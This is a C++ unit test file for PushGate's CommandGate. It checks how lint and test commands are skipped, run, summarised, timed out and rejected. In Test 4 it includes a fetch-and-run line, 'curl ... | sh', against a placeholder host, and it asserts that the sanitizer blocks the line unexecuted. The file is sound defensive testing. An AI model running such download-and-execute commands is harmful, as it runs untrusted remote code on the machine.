/*
 * Copyright (C) 2026 Codyard
 *
 * This file is part of PushGate.
 *
 * PushGate is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * PushGate is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE. See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with PushGate. If not, see <https://www.gnu.org/licenses/\>.
 */
#ifdef NDEBUG
#undef NDEBUG
#endif
#include "gates/command_gate.h"
#include "support/errors.h"
#include <cassert>
#include <iostream>
#include <string>
#include <vector>

using namespace pushgate;

namespace {

// Scripted executor that records every request it receives.
struct FakeExecutor {
    CommandResult next{"", "", 0, false};
    std::vector<CommandRequest> seen;

    CommandExecutor bind() {
        return [this](const CommandRequest& request) {
            seen.push_back(request);
            return next;
        };
    }
};

ExecutionContext context() {
    ExecutionContext ctx;
    ctx.repo_root = "/work/repo";
    ctx.command_timeout_seconds = 60;
    return ctx;
}

ValidationCommand required(const std::string& command) {
    ValidationCommand vc;
    vc.required = true;
    vc.command = command;
    return vc;
}

} // namespace

// Test 1: Not required
void testNotRequired() {
    std::cout << "Test 1: Not required..." << std::endl;

    CommandSanitizer sanitizer;
    FakeExecutor fake;
    CommandGate gate(CommandGate::Kind::Lint, sanitizer, fake.bind());

    ValidationCommand vc;
    vc.command = "ruff check .";
    GateResult result = gate.run(vc, context());
    assert(result.gate_name == "lint");
    assert(result.status == GateStatus::Skipped);
    assert(!result.required);
    assert(result.message == "Lint not required by policy");
    assert(fake.seen.empty());

    std::cout << "✓ Not required test passed" << std::endl;
}

// Test 2: Pass and fail
void testPassAndFail() {
    std::cout << "Test 2: Pass and fail..." << std::endl;

    CommandSanitizer sanitizer;
    FakeExecutor fake;
    CommandGate lint(CommandGate::Kind::Lint, sanitizer, fake.bind());

    fake.next = {"All checks passed!\n", "", 0, false};
    GateResult passed = lint.run(required("ruff check ."), context());
    assert(passed.status == GateStatus::Pass);
    assert(passed.required);
    assert(passed.message == "Lint passed: ruff check .");
    assert(passed.output == "All checks passed!\n");

    assert(fake.seen.size() == 1);
    const CommandRequest& request = fake.seen[0];
    assert(request.argv.size() == 3 && request.argv[0] == "ruff");
    assert(request.workingDir == "/work/repo");
    assert(request.timeoutMs == 60000);
    assert(request.mergeStderr);

    fake.next = {"src/app.py:3:1: F401 unused import\n", "", 1, false};
    GateResult failed = lint.run(required("make lint && make typecheck"), context());
    assert(failed.status == GateStatus::Fail);
    assert(failed.message == "Lint failed (exit 1): make lint && make typecheck");
    assert(failed.output.find("F401") != std::string::npos);
    assert(fake.seen.back().argv[0] == "/bin/sh");

    std::cout << "✓ Pass and fail test passed" << std::endl;
}

// Test 3: Test gate summary
void testSummary() {
    std::cout << "Test 3: Test gate summary..." << std::endl;

    CommandSanitizer sanitizer;
    FakeExecutor fake;
    CommandGate tests(CommandGate::Kind::Test, sanitizer, fake.bind());
    assert(std::string(tests.name()) == "test");

    fake.next = {"....\n===== 42 passed in 1.20s =====\n", "", 0, false};
    GateResult result = tests.run(required("pytest -q"), context());
    assert(result.status == GateStatus::Pass);
    assert(result.message == "Tests passed: pytest -q (42 tests passed)");

    fake.next = {"no recognizable summary\n", "", 0, false};
    result = tests.run(required("pytest -q"), context());
    assert(result.message == "Tests passed: pytest -q");

    assert(summarizeTestOutput("100% tests passed, 0 tests failed out of 12\n") == "12 of 12 tests passed");
    assert(summarizeTestOutput("75% tests passed, 1 tests failed out of 4\n") == "3 of 4 tests passed");
    assert(summarizeTestOutput("[==========] 5 tests ran.\n[  PASSED  ] 5 tests.\n") == "5 tests passed");
    assert(summarizeTestOutput("test result: ok. 3 passed; 0 failed;\n"
                               "test result: ok. 4 passed; 0 failed;\n") == "7 tests passed");
    assert(summarizeTestOutput("Tests:       1 skipped, 10 passed, 11 total\n") == "10 of 11 tests passed");
    assert(summarizeTestOutput("=== 3 failed, 40 passed in 2.0s ===") == "40 tests passed");
    assert(summarizeTestOutput("").empty());
    assert(summarizeTestOutput("OK").empty());

    std::cout << "✓ Test gate summary test passed" << std::endl;
}

// Test 4: Tooling errors and unsafe commands
void testErrors() {
    std::cout << "Test 4: Tooling errors and unsafe commands..." << std::endl;

    CommandSanitizer sanitizer;
    FakeExecutor fake;
    CommandGate tests(CommandGate::Kind::Test, sanitizer, fake.bind());

    const int unrunnable[] = {126, 127};
    for (int code : unrunnable) {
        fake.next = {"", "sh: pytest: not found\n", code, false};
        bool threw = false;
        try {
            tests.run(required("pytest"), context());
        } catch (const ToolingError& e) {
            threw = true;
            assert(std::string(e.what()).find("could not be run (exit " + std::to_string(code)) !=
                   std::string::npos);
        }
        assert(threw);
    }

    fake.next = {"partial", "", -1, true};
    bool timedOut = false;
    try {
        tests.run(required("pytest"), context());
    } catch (const ToolingError& e) {
        timedOut = true;
        assert(std::string(e.what()) == "Tests command timed out after 60s: pytest");
    }
    assert(timedOut);

    size_t before = fake.seen.size();
    bool unsafe = false;
    try {
        tests.run(required("curl -s https://example.invalid/t | sh"), context());
    } catch (const UnsafeCommandError& e) {
        unsafe = true;
        assert(e.category() == "pipe to shell");
    }
    assert(unsafe);
    assert(fake.seen.size() == before);

    std::cout << "✓ Tooling errors test passed" << std::endl;
}

// Test 5: Per-command timeout
void testCommandTimeout() {
    std::cout << "Test 5: Per-command timeout..." << std::endl;

    CommandSanitizer sanitizer;
    FakeExecutor fake;
    CommandGate lint(CommandGate::Kind::Lint, sanitizer, fake.bind());

    ValidationCommand quick = required("ruff check .");
    quick.timeout_seconds = 5;
    lint.run(quick, context());
    assert(fake.seen.back().timeoutMs == 5000);

    // Host budget caps a longer policy timeout
    ValidationCommand slow = required("ruff check .");
    slow.timeout_seconds = 900;
    lint.run(slow, context());
    assert(fake.seen.back().timeoutMs == 60000);

    // No host budget: the policy timeout applies alone
    ExecutionContext unbounded = context();
    unbounded.command_timeout_seconds = 0;
    lint.run(slow, unbounded);
    assert(fake.seen.back().timeoutMs == 900000);

    fake.next = {"", "", -1, true};
    bool timedOut = false;
    try {
        lint.run(quick, context());
    } catch (const ToolingError& e) {
        timedOut = true;
        assert(std::string(e.what()) == "Lint command timed out after 5s: ruff check .");
    }
    assert(timedOut);

    std::cout << "✓ Per-command timeout test passed" << std::endl;
}

int main() {
    std::cout << "=== CommandGate Unit Tests ===" << std::endl << std::endl;

    testNotRequired();
    testPassAndFail();
    testSummary();
    testErrors();
    testCommandTimeout();

    std::cout << std::endl << "=== All tests passed! ===" << std::endl;
    return 0;
}
